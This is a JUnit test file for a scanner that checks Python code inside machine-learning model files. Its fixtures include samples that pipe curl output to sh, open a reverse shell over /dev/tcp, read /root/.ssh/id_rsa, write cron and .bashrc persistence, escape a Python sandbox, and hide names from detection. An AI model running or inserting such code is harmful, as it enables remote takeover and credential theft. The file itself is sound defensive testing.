package io.sallyport.artifacts.evasion;

import static io.sallyport.artifacts.evasion.ModelFiles.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.sallyport.artifacts.ModelScanner;
import io.sallyport.artifacts.ScanFinding;
import io.sallyport.artifacts.ScanLimits;
import io.sallyport.artifacts.ScanVerdict;
import io.sallyport.artifacts.internal.rules.DataFiles;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Names in source of Python mean what they mean to Python, wherever they stand. */
final class SourceNamesTest {
  private static final ModelScanner SCANNER = new ModelScanner(ScanLimits.standard());
  private static final JsonNode NAMES = DataFiles.tree("rules/source-names.json");

  private static List<String> rules(String source) {
    return SCANNER.scan(utf8(source), "modeling.py").findings().stream()
        .map(ScanFinding::rule)
        .distinct()
        .toList();
  }

  private static ScanVerdict verdict(String source, String name) {
    return SCANNER.scan(utf8(source), name).verdict();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "e = exec\ne('1')\n",
        "list(map(exec, ['1']))\n",
        "run = {'a': eval}['a']\n",
        "class A:\n    __class_getitem__ = exec\nA['x']\n",
        "class A:\n    __matmul__ = staticmethod(eval)\n",
        "f = lambda x, g=compile: g(x)\n",
        "def f(x):\n    return x\nf(exec)\n",
        "x = [__import__][0]('os')\n",
        "def f(eval):\n    pass\ne = eval\n",
        "class A:\n    eval = 1\n    def f(self):\n        return eval\n",
        "e = eval\neval = 1\n",
        "().__class__.__base__.__subclasses__()\n",
        "f.__init__.__globals__['system']\n",
        "x = getattr(f, '__globals__')\n",
        "x = globals()['__builtins__']\n",
        "__builtins__.x\n",
        "m = getattr(o, 'system')\n",
        "m = operator.methodcaller('system', 'id')(os)\n",
        "print(f\"{exec('1')}\")\n",
        "x = f'{__import__(\"os\")}'\n",
        "with a as b: exec\n",
        "for eval in []: pass\nexec('x')\n",
        "import torch\ntorch.os.system('id')\n",
        "g = (lambda: 0).__code__\n",
        "import yaml\nyaml.load(f, Loader=yaml.UnsafeLoader)\n",
        "import types\nf = types.FunctionType(c, {})\n",
        "from os import path as p\np.os.popen('id')\n",
        "open('/etc/cron.d/x', 'w').write(y)\n",
        "p = Path.home() / '.bashrc'\n",
        "k = open('/root/.ssh/id_rsa').read()\n",
        "from torch.utils.cpp_extension import load_inline as l\nl('x', y)\n",
        "sys.meta_path.insert(0, X())\n"
      })
  void wayToRunText_isFlagged(String source) {
    assertThat(rules(source)).isNotEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "@exec\n@input\nclass X: pass\n",
        "@eval\n@'__import__'.format\nclass X: pass\n",
        "import base64\nexec(base64.b64decode('aQ=='))\n",
        "from base64 import b64decode as d\nexec(d('aQ=='))\n",
        "import zlib\nc = zlib.decompress(b'')\nexec(c)\n",
        "import urllib.request as r\nexec(r.urlopen(u).read())\n",
        "exec(bytes.fromhex('70'))\n",
        "exec(compile(__import__('base64').b64decode(x), '', 'exec'))\n",
        "getattr(m, 'sy' + 'stem')('id')\n",
        "m = i('o' 's')\n",
        "getattr(m, 'metsys'[::-1])\n",
        "getattr(m, ''.join(['sys', 'tem']))\n",
        "getattr(m, '\\x73ys' + 'tem')\n",
        "import os\nos.system('curl http://x | sh')\n",
        "import subprocess as s\ns.run(['bash', '-c', 'curl http://x | sh'])\n",
        "from os import popen as p\np(\"bash -i >& /dev/tcp/1.1.1.1/9 0>&1\")\n",
        "import os\nos.system('echo x >> ~/.bashrc')\n"
      })
  void hiddenOrHostileCode_isMalicious(String source) {
    assertThat(verdict(source, "setup.py")).isEqualTo(ScanVerdict.MALICIOUS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "model.eval()\nre.compile('x')\ntorch.compile(model)\n",
        "class T:\n  def eval(self, x):\n    return self.eval(x)\n  def compile(self, a):\n    pass\n",
        "def train(model, eval=True, compile=False):\n  if eval and compile:\n    model.eval()\n",
        "def main(\n    compile: bool = False,\n    eval: int = 1,\n):\n  print(compile, eval)\n",
        "from re import compile\np = compile('x')\n",
        "from re import compile as c\np = c('x')\n",
        "train(eval=True, compile=compile_model)\n",
        "eval = evaluate(model)\nprint(eval)\n",
        "for eval in (1, 2):\n  print(eval)\n",
        "x = {'eval': 1, 'exec': 2}\nx['eval']\n",
        "parser.add_argument('--eval', action='store_true')\nargs.eval\n",
        "getattr(model, 'forward')(x)\nmode = 'train' + '_eval'\n",
        "name = 'en' + 'coder'\nsep = ', '.join(['a', 'b'])\n",
        "print(f'{x:>10} {{literal}} {y!r}')\n",
        "import base64\nimage = base64.b64encode(data)\n",
        "@dataclass\nclass A:\n  compile: bool = False\n  eval: str = 'x'\n",
        "n = f.__code__.co_argcount\n",
        "log = 'a.profiler'\ncache = Path.home() / '.cache'\n",
        "def f():\n  eval = 1\n  def g():\n    return eval\n  return g\n"
      })
  void ordinarySource_isClean(String source) {
    assertThat(rules(source)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a=",
        "eval=",
        "x.",
        "f(",
        "getattr(x, 'a', ",
        "def f(eval):\n ",
        "exec,",
        "'a'+",
        "[[("
      })
  void sourceThatRepeatsItself_isReadWithinItsBudget(String part) {
    assertThat(verdict(part.repeat(60_000 / part.length()) + "\nexec\n", "modeling.py"))
        .isNotEqualTo(ScanVerdict.CLEAN);
  }

  @Test
  void fileThatPythonRunsAtEachStart_isFlagged() {
    assertThat(verdict("x = 1\n", "sitecustomize.py")).isEqualTo(ScanVerdict.SUSPICIOUS);
    assertThat(verdict("x = 1\n", "usercustomize.py")).isEqualTo(ScanVerdict.SUSPICIOUS);
  }

  @Test
  void listedNames_areEachNeeded() {
    for (JsonNode name : NAMES.path("builtins")) {
      assertThat(rules("x = " + name.asText() + "\n")).contains("code/source");
    }
    for (JsonNode name : NAMES.path("inner-attributes")) {
      assertThat(rules("x." + name.asText() + "\n")).contains("code/source");
    }
    for (JsonNode name : NAMES.path("hidden-names")) {
      String text = name.asText();
      assertThat(rules("x = '" + text.charAt(0) + "' + '" + text.substring(1) + "'\n"))
          .as(text)
          .contains("code/hidden");
    }
    for (JsonNode name : NAMES.path("decoders")) {
      String call = name.asText().contains(".") ? name.asText() : "m." + name.asText();
      assertThat(rules("exec(" + call + "(x))\n")).contains("code/hidden");
    }
    for (JsonNode text : NAMES.path("hostile-texts")) {
      assertThat(rules("os.environ['" + text.asText() + "'] = x\n")).contains("code/source");
    }
    for (JsonNode name : NAMES.path("reached-by-name")) {
      assertThat(rules("getattr(x, '" + name.asText() + "')\n")).contains("code/source");
    }
  }
}
